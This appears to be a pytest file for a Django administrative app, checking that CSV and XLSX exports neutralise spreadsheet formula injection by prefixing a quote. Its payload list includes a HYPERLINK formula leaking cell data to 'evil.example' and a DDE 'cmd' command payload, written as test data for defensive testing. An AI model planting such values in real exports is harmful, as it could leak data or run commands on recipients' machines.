"""CSV/formula injection (issue 14, item 4): text that a spreadsheet would run as a formula is
neutralised in every CSV and XLSX export (OWASP: a leading single quote), stored data unchanged."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.catalog.models import Procedure
from apps.common.exports import csv_response, xlsx_response
from apps.dossiers.models import Dossier
from tests.dossier_fixtures import RECORD

# The outside test's applicant names, verbatim.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(response) -> list[list]:
    """Every cell object of the first sheet (a full load: read-only mode hides data_type)."""
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def assert_no_formula(cells: list[list]) -> None:
    formulas = [cell.coordinate for row in cells for cell in row if cell.data_type == "f"]
    assert formulas == []


@pytest.mark.django_db
def test_the_dossier_export_neutralises_formula_names_and_keeps_them_stored(register, as_user, media_root):
    for index, name in enumerate(PAYLOADS):
        applicant = {"name": name, "id_number": f"00108800{index:04d}", "applicant_type": "citizen"}
        response = register(applicant=applicant)
        assert response.status_code == 201, response.content
    rows = csv_rows(as_user("clerk_tuphap").get("/api/v1/dossiers/export.csv"))
    column = rows[0].index("applicant_name")
    assert sorted(row[column] for row in rows[1:]) == sorted("'" + name for name in PAYLOADS)
    assert all(row[column][:1] not in "=+-@\t\r" for row in rows[1:])
    assert sorted(Dossier.objects.values_list("applicant_name", flat=True)) == sorted(PAYLOADS)  # as entered


@pytest.fixture
def formula_procedure(db, demo):
    """The procedure of RECORD renamed (its code is a breakdown group) to a formula."""
    code = "-2+3+cmd|' /C calc'!A0"
    Procedure.objects.filter(code=RECORD["procedure"]).update(code=code)
    return code


def _period() -> dict[str, str]:
    from datetime import timedelta

    from django.utils import timezone

    today = timezone.localdate()
    return {"from": (today - timedelta(days=3)).isoformat(), "to": (today + timedelta(days=1)).isoformat()}


@pytest.mark.django_db
def test_statistics_exports_neutralise_formula_groups(register, as_user, media_root, formula_procedure):
    assert register(procedure=formula_procedure).status_code == 201
    supervisor = as_user("supervisor")
    query = {**_period(), "by": "procedure"}

    rows = csv_rows(supervisor.get("/api/v1/stats/summary.csv", query))
    groups = [row[rows[0].index("group")] for row in rows[1:]]
    assert groups == ["'" + formula_procedure]

    cells = xlsx_cells(supervisor.get("/api/v1/stats/summary.xlsx", query))
    assert_no_formula(cells)
    header = [cell.value for cell in cells[0]]
    record = {name: cell for name, cell in zip(header, cells[1], strict=True)}
    assert record["group"].value == "'" + formula_procedure and record["group"].data_type == "s"
    assert record["received"].value == 1 and record["received"].data_type == "n"  # numbers stay numbers
    assert Procedure.objects.filter(code=formula_procedure).exists()


def _export_rows():
    return [
        [*PAYLOADS, "\tTAB", "\rCR", "ok", "a=b", "", None, -5, -2.5, Decimal("-3"), 0],
    ]


HEADER = ["a", "b", "c", "d", "tab", "cr", "plain", "inner", "empty", "none", "int", "float", "decimal", "zero"]


def test_csv_cells_beginning_with_a_formula_character_get_a_quote():
    response = csv_response("x.csv", HEADER, _export_rows())
    rows = csv_rows(response)
    assert rows[0] == HEADER
    assert rows[1] == [*("'" + p for p in PAYLOADS), "'\tTAB", "'\rCR", "ok", "a=b", "", "", "-5", "-2.5", "-3", "0"]


def test_xlsx_has_no_formula_cell_and_negative_numbers_stay_numbers():
    response = xlsx_response("x.xlsx", "Sheet", ["=header", *HEADER[1:]], _export_rows())
    cells = xlsx_cells(response)
    assert_no_formula(cells)
    assert cells[0][0].value == "'=header"
    values = [cell.value for cell in cells[1]]
    assert values[:5] == [*("'" + p for p in PAYLOADS), "'\tTAB"]
    assert values[5] in ("'\rCR", "'\nCR")  # XML reads a CR in text back as LF
    assert values[6:8] == ["ok", "a=b"]
    assert values[10:] == [-5, -2.5, -3, 0]
    assert [cell.data_type for cell in cells[1][10:]] == ["n", "n", "n", "n"]


def test_xlsx_drops_characters_xml_cannot_hold():
    """A stored name with BEL would make openpyxl raise (a 500 on the statistics export)."""
    cells = xlsx_cells(xlsx_response("x.xlsx", "Sheet", ["name"], [["A\u0007B\uffff"], ["=\u0001x"]]))
    assert [row[0].value for row in cells[1:]] == ["AB", "'=x"]
